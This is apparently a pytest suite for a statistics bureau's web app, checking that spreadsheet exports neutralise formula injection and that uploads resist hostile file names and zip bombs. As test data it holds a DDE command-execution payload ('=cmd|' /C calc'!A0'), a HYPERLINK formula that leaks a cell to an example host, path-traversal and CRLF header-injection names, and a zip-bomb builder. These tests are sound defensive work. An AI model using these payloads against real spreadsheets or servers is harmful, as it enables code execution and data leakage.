"""What leaves can't be run by whoever opens it, and what comes in bears a plain name."""

from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import openpyxl
import pytest

from diaodu.bureau.audit import actions as audit
from diaodu.bureau.audit import export as audit_export
from diaodu.bureau.audit.models import Event
from diaodu.bureau.catalogue import actions as catalogues
from diaodu.bureau.catalogue import models
from diaodu.bureau.directory.models import Person, Role
from diaodu.bureau.figures import actions as figures
from diaodu.bureau.figures import export
from diaodu.bureau.figures.lines import FigureKey, Line
from diaodu.bureau.figures.models import Figure
from diaodu.bureau.reports import actions as reports
from diaodu.bureau.reports.intake import delimited, files, marked
from diaodu.bureau.reports.intake.problems import Problem, Severity
from diaodu.economy.cells import STARTS, harmless, restored
from diaodu.economy.errors import Refusal
from diaodu.economy.filenames import MOST_BYTES, own_name
from diaodu.web import sheets
from tests.bureau.workbooks import load_catalogue

EVIL = "=cmd|' /C calc'!A0"
NOW = dt.datetime(2024, 10, 20, 9, tzinfo=dt.UTC)


@pytest.fixture
def clerk(db):
    return Person.objects.create(username="wang", full_name=EVIL, role=Role.DISPATCHER)


@pytest.fixture
def ledger(clerk):
    """A place that is called like a formula, and has shrunk."""
    load_catalogue()
    place = models.Place.objects.get(code="990101")
    place.name, place.block = EVIL, {**place.block, "name": EVIL}
    place.save()
    source = figures.add_source(name="来源.xlsx", content=b"", by=clerk, at=NOW)
    lines = [
        Line(FigureKey("gdp", "990101", "", "official", "level", 2023, 1, 12), 12.5),
        Line(FigureKey("gdp", "990101", "", "official", "growth", 2023, 1, 12), -3.5),
    ]
    figures.post(lines=lines, source=source, by=clerk, at=NOW)
    return catalogues.current()


def formulas(content: bytes) -> list[object]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [c.value for s in book.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]


def written(content: bytes) -> list[object]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [c.value for s in book.worksheets for row in s.iter_rows() for c in row]


def cells(content: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row]


def acts(cell: str) -> bool:
    """Whether a spreadsheet would take a csv's cell for a formula; a number it takes for a number."""
    try:
        float(cell)
    except ValueError:
        return cell.startswith(STARTS)
    return False


@pytest.mark.parametrize("start", STARTS)
def test_text_is_marked_and_comes_back_as_it_was(start):
    text = f"{start}1+1"
    assert harmless(text) == f"'{text}"
    assert restored(harmless(text)) == text
    assert restored("'寻常的引号'") == "'寻常的引号'"


def test_numbers_stay_numbers():
    assert (harmless(-3.5), harmless(0), harmless(None)) == (-3.5, 0, None)
    assert harmless("同比-3.5") == "同比-3.5"


def test_the_ledger_as_csv_runs_nothing_and_comes_back(ledger, clerk):
    content = b"".join(export.stream_csv(export.choose(), ledger))
    assert f"'{EVIL}" in cells(content)
    assert "-3.5" in cells(content)
    assert not any(map(acts, cells(content)))
    out = io.BytesIO()
    export.write(export.choose(), ledger, out, "csv")
    assert out.getvalue() == content
    assert delimited.read("长表.csv", content).rows[1][1] == EVIL
    done = reports.import_file(name="长表.csv", content=content, by=clerk, now=NOW)
    assert (done.problems, done.posted.unchanged) == ([], 2)


def test_the_ledger_as_a_workbook_holds_text_alone(ledger, clerk):
    out = io.BytesIO()
    export.write(export.choose(), ledger, out, "xlsx")
    assert formulas(out.getvalue()) == []
    assert {EVIL, -3.5} <= set(written(out.getvalue()))
    done = reports.import_file(name="长表.xlsx", content=out.getvalue(), by=clerk, now=NOW)
    assert done.posted.unchanged == 2
    assert Figure.objects.count() == 2


def test_lists_of_the_pages_hold_text_alone():
    content = sheets.workbook("清单", ["地区", "内容", "数"], [[EVIL, "{=1+1}", -1]], widths=[10, 10, 10])
    assert formulas(content) == []
    assert {EVIL, "{=1+1}", -1} <= set(written(content))


def test_the_log_as_csv_runs_nothing(clerk):
    audit.record("upload.received", clerk, by=clerk, name=EVIL)
    audit.record_unknown("login.failed", name="@SUM(1+1)*cmd|' /C calc'!A0", reason="-1+1|x")
    content = b"".join(audit_export.stream(Event.objects.all()))
    assert f"'{EVIL}" in cells(content)
    assert not any(map(acts, cells(content)))


@pytest.mark.parametrize("name", ["坏.xlsx", "坏.csv"])
def test_a_marked_copy_starts_nothing(name):
    if name.endswith("csv"):
        content = f'指标,地区\nGDP,"{EVIL}"\n'.encode()
    else:
        book = openpyxl.Workbook()
        book.active.append(["指标", EVIL, '=HYPERLINK("http://a.example/?"&A1)', "=SUM(A1:A1)"])
        book.active.append(["GDP", "城关区", 12.5, 3])
        out = io.BytesIO()
        book.save(out)
        content = out.getvalue()
    sheet = "" if name.endswith("csv") else "Sheet"
    found = marked.build(name, content, [Problem(sheet, "B1", EVIL, "看不懂", Severity.REFUSE)])
    assert formulas(found) == ([] if name.endswith("csv") else ["=SUM(A1:A1)"])
    assert EVIL in written(found)


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd", "passwd"),
        ("..\\..\\windows\\九月.xlsx", "九月.xlsx"),
        ("C:\\报表\\九月.xlsx", "九月.xlsx"),
        ("九月\x00.xlsx", "九月.xlsx"),
        ("九月\u202exslx.exe", "九月xslx.exe"),  # read from the right it looked like exe.xlsx
        ("九月\r\nSet-Cookie: a=b.xlsx", "九月Set-Cookie_ a=b.xlsx"),
        ("CON.xlsx", "_CON.xlsx"),
        ("...", "未命名"),
        ("", "未命名"),
        ("a/b/", "未命名"),
        ("九月（定稿）-1.xlsx", "九月（定稿）-1.xlsx"),
    ],
)
def test_names_lose_their_tricks_and_nothing_else(given, kept):
    assert own_name(given) == kept


def test_a_very_long_name_keeps_its_ending():
    name = own_name("长" * 5_000 + ".xlsx")
    assert name.endswith("长.xlsx")
    assert len(name.encode()) <= MOST_BYTES


def test_a_trick_in_a_name_goes_neither_in_nor_out(clerk):
    upload = reports.receive(name="../../坏\u202e\x00.csv", content=b"a,b\n", by=clerk, now=NOW)
    assert upload.name == "坏.csv"
    told = sheets.download("../../x\r\nA: b\u202e.xlsx", b"")["Content-Disposition"]
    assert ".." not in told
    assert "\n" not in told
    assert "%E2%80%AE" not in told


def bomb() -> bytes:
    """A workbook of some kilobytes that unpacks to a thousand times as much."""
    plain, out = io.BytesIO(), io.BytesIO()
    openpyxl.Workbook().save(plain)
    with (
        zipfile.ZipFile(plain) as whole,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as packed,
    ):
        for part in whole.infolist():
            if "sheet1" not in part.filename:
                packed.writestr(part, whole.read(part))
        with packed.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(80):
                sheet.write(b" " * (1 << 20))
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("九月.xlsx", b"%PDF-1.7\n" + b"x" * 99, "PDF"),
        ("九月.xls", "<html><table><tr><td>地区</td></tr></table></html>".encode(), "网页"),
        ("九月.csv", b"\x89PNG\r\n\x1a\n" + b"x" * 99, "图片"),
        ("九月.xlsx", b"MZ\x90\x00\x03" + b"\x00" * 200, "不是能识别的表格文件"),
        ("九月.xlsx", b"PK\x03\x04" + b"x" * 200, "损坏"),
        ("九月.xlsx", bomb, "解压后过大"),
    ],
)
def test_a_file_that_is_not_what_its_name_says_is_refused(name, content, why, clerk):
    content = content() if callable(content) else content
    with pytest.raises(Refusal, match=why):
        list(files.open_book(name, content).grids)
    load_catalogue()
    upload = reports.read(reports.receive(name=name, content=content, by=clerk, now=NOW))
    assert why in upload.message
    event = Event.objects.get(verb="upload.refused")
    assert (event.subject_id, event.detail["name"]) == (str(upload.pk), name)
    assert why in event.detail["reason"]
